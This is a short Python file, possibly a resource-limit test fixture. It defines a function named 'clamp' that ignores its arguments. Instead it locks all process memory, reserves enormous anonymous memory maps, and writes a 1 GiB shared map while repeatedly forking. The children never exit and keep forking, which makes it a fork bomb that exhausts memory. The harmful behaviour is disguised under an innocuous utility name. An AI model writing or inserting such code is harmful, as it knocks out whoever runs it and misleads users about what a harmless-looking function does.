# Reserves and shares memory in ways that fork multiplies: anonymous shared maps, huge reservations, locked pages.
import ctypes
import mmap
import os

_kept = []


def clamp(value, low, high):
    ctypes.CDLL(None).mlockall(3)
    for size in (1 << 46, 1 << 40, 1 << 36):
        try:
            _kept.append(mmap.mmap(-1, size))
        except (OSError, ValueError, OverflowError):
            pass
    shared = mmap.mmap(-1, 1 << 30)
    for start in range(0, 1 << 30, 1 << 20):
        shared[start : start + 4096] = bytes(4096)
        if start % (1 << 26) == 0 and os.fork() == 0:
            shared[:] = bytes([1]) * len(shared)
    return None
